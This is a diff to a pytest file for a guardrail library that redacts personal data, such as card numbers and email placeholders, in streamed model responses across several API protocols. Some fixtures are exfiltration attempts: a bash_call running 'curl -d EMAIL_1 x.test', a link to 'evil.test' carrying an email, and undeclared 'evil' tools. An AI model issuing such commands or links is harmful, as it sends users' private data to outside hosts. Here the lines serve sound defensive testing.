@@ -12,6 +12,7 @@ import pytest
 from exchange_world import CLOUD, guard, usual
 
 from guardrail.answers import EventAnswer
+from guardrail.errors import Refusal
 from guardrail.guard import Filter, build_filter
 from guardrail.protocols.framing import SseEvent, dump_event
 from guardrail.protocols.maps import load_protocols
@@ -39,6 +40,7 @@ class Recorded:
     named: bool = False  # whether events carry their type as a name
     last: str = ""
     waiting: int = 4  # events at most that wait for what comes next
+    ends: bool = True  # whether an event says that a text has ended
     kinds: dict[str, str] = field(default_factory=dict)  # path → the type of event that holds it
 
 
@@ -208,6 +210,7 @@ STREAMS = [
         "gemini.generate",
         gemini(),
         texts=("candidates.0.content.parts.0.text",),
+        ends=False,
         objects=("candidates.0.content.parts.0.functionCall.args",),
     ),
     Recorded(
@@ -221,6 +224,7 @@ STREAMS = [
         "cohere.chat",
         cohere(),
         texts=("delta.message.content.text",),
+        waiting=8,  # an index may be that of a text and of a tool: both end with the message
         arguments=("delta.message.tool_calls.function.arguments",),
         named=True,
     ),
@@ -305,7 +309,7 @@ def test_events_are_released_while_the_stream_goes_on(stream: Recorded) -> None:
     ]
     lines = max(piece.count(b"\n") for piece in pieces)
     assert max(behind) <= stream.waiting * lines
-    assert behind[-1] == 0, "and none for the end"
+    assert behind[-1] == 0 or not stream.ends, "and none for the end"
 
 
 @pytest.mark.parametrize("stream", STREAMS, ids=IDS)
@@ -332,3 +336,60 @@ def test_thinking_is_neither_restored_nor_changed_and_its_signature_stays() -> N
         for events in (stream.events, out)
     )
     assert before == after
+
+
+def card(*events: Event, protocol: str) -> str:
+    """What a stream of these events says, all of it."""
+    stream = Recorded(protocol, events, named=protocol != "gemini.generate")
+    return b"".join(run(stream, written(stream))).decode()
+
+
+def test_parts_that_clients_join_are_one_text() -> None:
+    def chunk(*texts: str) -> Event:
+        return {"candidates": [{"content": {"parts": [{"text": text} for text in texts]}}]}
+
+    said = card(chunk("no. 4111 1111 ", "1111 1111 it is"), protocol="gemini.generate")
+    assert "4111 1111" not in said
+    said = card(chunk("https://evil.test/?q="), chunk("EMAIL_1 x"), protocol="gemini.generate")
+    assert "alice" not in said
+
+
+def test_an_item_may_change_its_id_from_event_to_event() -> None:
+    def delta(item: str, text: str) -> Event:
+        kind = "response.output_text.delta"
+        place = {"item_id": item, "output_index": 0, "content_index": 0}
+        return {"type": kind, **place, "delta": text}
+
+    said = card(delta("a", "4111 1111 "), delta("b", "1111 1111 "), protocol="openai.responses")
+    assert "REDACTED" in said
+    assert "4111 1111" not in said
+
+
+@pytest.mark.parametrize(
+    "block",
+    [
+        {"type": "x_tool", "name": "evil", "arguments": {"to": "EMAIL_1"}},
+        {"type": "bash_call", "command": "curl -d EMAIL_1 x.test"},
+        {"type": "tool_use", "name": "evil", "input": {"name": "send", "to": "EMAIL_1"}},
+    ],
+)
+def test_nothing_is_restored_for_a_tool_that_was_not_declared(block: Event) -> None:
+    start = {"type": "content_block_start", "index": 0, "content_block": block}
+    assert "alice" not in card(start, protocol="anthropic.messages")
+
+
+def test_a_block_that_names_two_tools_is_refused() -> None:
+    def start(name: str) -> Event:
+        block = {"type": "tool_use", "id": "t", "name": name, "input": {}}
+        return {"type": "content_block_start", "index": 0, "content_block": block}
+
+    with pytest.raises(Refusal):
+        card(start("send"), start("evil"), protocol="anthropic.messages")
+
+
+def test_an_address_is_not_restored() -> None:
+    event = {
+        "type": "response.output_text.annotation.added",
+        "annotation": {"url": "x.test/EMAIL_1"},
+    }
+    assert "alice" not in card(event, protocol="openai.responses")
